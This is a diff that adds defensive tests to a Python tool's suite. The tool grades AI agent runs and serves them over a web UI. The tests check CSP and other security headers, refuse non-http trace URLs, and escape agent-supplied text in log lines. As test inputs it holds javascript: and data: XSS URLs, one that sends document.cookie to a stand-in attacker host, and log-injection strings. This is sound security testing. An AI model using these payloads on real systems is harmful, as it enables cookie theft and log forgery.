@@ -5,6 +5,8 @@ about failing runs (with an injected clock)."""
 from __future__ import annotations
 
 import asyncio
+import base64
+import hashlib
 import json
 import logging
 from pathlib import Path
@@ -136,7 +138,7 @@ def test_a_bad_filter_says_what_is_wrong(params: dict[str, str], message: str) -
 # --- the HTML ------------------------------------------------------------------------------------
 
 
-async def _get(store: RunStore, settings: UiSettings, *paths: str) -> list[tuple[int, str]]:
+async def _get(store: RunStore, settings: UiSettings, *paths: str) -> list[tuple[int, str, dict[str, str]]]:
     app = web.Application()
     add_grade_pages(app, store, settings)
     runner = web.AppRunner(app)
@@ -149,7 +151,7 @@ async def _get(store: RunStore, settings: UiSettings, *paths: str) -> list[tuple
             out = []
             for path in paths:
                 async with session.get(f"http://127.0.0.1:{port}{path}") as response:
-                    out.append((response.status, await response.text()))
+                    out.append((response.status, await response.text(), dict(response.headers)))
             return out
     finally:
         await runner.cleanup()
@@ -167,7 +169,7 @@ def test_the_run_page_escapes_what_the_agent_said_and_explains_a_missing_run() -
     )
     store.write([grade(1, "fail", rationale="called <delete_account>")])
     settings = UiSettings(trace_url="https://langfuse.example/project/p1/traces/{trace_id}")
-    (status, page), (missing, gone), (bad, problem) = asyncio.run(
+    (status, page, _), (missing, gone, _), (bad, problem, _) = asyncio.run(
         _get(store, settings, f"/runs/{trace(1)}", f"/runs/{trace(9)}", "/?outcome=nope")
     )
     assert status == 200
@@ -178,6 +180,24 @@ def test_the_run_page_escapes_what_the_agent_said_and_explains_a_missing_run() -
     assert f'href="https://langfuse.example/project/p1/traces/{trace(1)}"' in page
     assert missing == 404 and "No graded run of this trace is held" in gone and "ui.keep" in gone
     assert bad == 400 and "outcome must be one of" in problem
+
+
+def test_every_answer_forbids_script_framing_and_sniffing() -> None:
+    store = RunStore(keep=5)
+    store.add_run(trajectory(1))
+    store.write([grade(1, "fail")])
+    answers = asyncio.run(_get(store, UiSettings(), "/", f"/runs/{trace(1)}", "/api/grades", "/?outcome=nope", "/x"))
+    assert [status for status, _, _ in answers] == [200, 200, 200, 400, 404]
+    for _, _, headers in answers:
+        policy = dict(part.strip().split(" ", 1) for part in headers["Content-Security-Policy"].split(";"))
+        assert policy["default-src"] == "'none'" and policy["frame-ancestors"] == "'none'"
+        assert "script-src" not in policy and "unsafe-inline" not in policy["style-src"]
+        assert headers["X-Content-Type-Options"] == "nosniff" and headers["X-Frame-Options"] == "DENY"
+        assert headers["Referrer-Policy"] == "no-referrer"
+    page = answers[0][1]
+    style = page[page.index("<style>") + len("<style>") : page.index("</style>")]
+    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
+    assert policy["style-src"] == f"'sha256-{digest}'"  # the page's own style sheet, and only it, applies
 
 
 # --- the ui: settings ----------------------------------------------------------------------------
@@ -192,6 +212,23 @@ def test_ui_settings_are_read_and_a_bad_trace_url_is_named() -> None:
         parse_config({"ui": {"trace_url": "http://jaeger:16686/search"}})
     with pytest.raises(ConfigError, match=r"ui\.keep"):
         parse_config({"ui": {"keep": 0}})
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "javascript:alert(document.domain)//{trace_id}",
+        "JavaScript:fetch('//evil.example/'+document.cookie)//{trace_id}",
+        " javascript:alert(1)//{trace_id}",
+        "data:text/html,<script>alert(1)</script>{trace_id}",
+        "//jaeger:16686/trace/{trace_id}",
+        "jaeger:16686/trace/{trace_id}",
+    ],
+)
+def test_a_trace_url_that_is_not_http_is_refused_when_the_config_is_read(url: str) -> None:
+    with pytest.raises(ConfigError, match=r"ui\.trace_url: .*must start with http:// or https://"):
+        parse_config({"ui": {"trace_url": url}})
+    assert parse_config({"ui": {"trace_url": "HTTPS://tempo.example/{trace_id}"}}).ui.trace_url
 
 
 # --- the log lines -------------------------------------------------------------------------------
@@ -266,6 +303,26 @@ def test_nothing_graded_means_no_summary_and_zero_turns_lines_off(caplog: pytest
     assert caplog.records == []
 
 
+def test_names_and_reasons_sent_by_agents_cannot_break_a_log_line(caplog: pytest.LogCaptureFixture) -> None:
+    caplog.set_level(logging.INFO, "otelgrade.runs")
+    forged = "\n2030-01-01 00:00:00,000 ERROR otelgrade: forged"
+    hostile = grade(
+        1,
+        "fail",
+        service_name=f"svc{forged}",
+        agent_name="agent\r\x1b[31m\u2028\x85",
+        rationale="called \x07delete\x00account\nand more",
+    )
+    RunLog(UiSettings(), Clock()).write([hostile])
+    [line] = [r.getMessage() for r in caplog.records]
+    assert line == (
+        f"run failed: trace_id={trace(1)} span_id={1:016x} service=svc\\n2030-01-01 00:00:00,000 ERROR otelgrade: "
+        "forged agent=agent\\r\\x1b[31m\\u2028\\x85"
+        " | suite=travel grader=budget: called \\x07delete\\x00account and more"
+    )
+    assert line.isprintable()
+
+
 def test_a_long_rationale_is_cut_in_the_log_but_not_on_the_page() -> None:
     long = grade(1, "fail", rationale="x" * 1000)
     store = RunStore(keep=1)
@@ -306,7 +363,7 @@ def test_the_dashboard_links_failed_grades_to_the_page() -> None:
         grafana(series_link["url"], **{"__field.labels.suite": "travel", "__field.labels.grader": "no_tool_errors"}),
         grafana(exemplar_url, **{"__value.raw": trace(1)}),
     )
-    (status, listed), (run_status, run_page) = asyncio.run(_get(store, UiSettings(), *paths))
+    (status, listed, _), (run_status, run_page, _) = asyncio.run(_get(store, UiSettings(), *paths))
     assert status == 200 and "errors 1 over max 0" in listed and "budget says fail" not in listed
     assert run_status == 200 and f"Trace <code>{trace(1)}</code>" in run_page
 
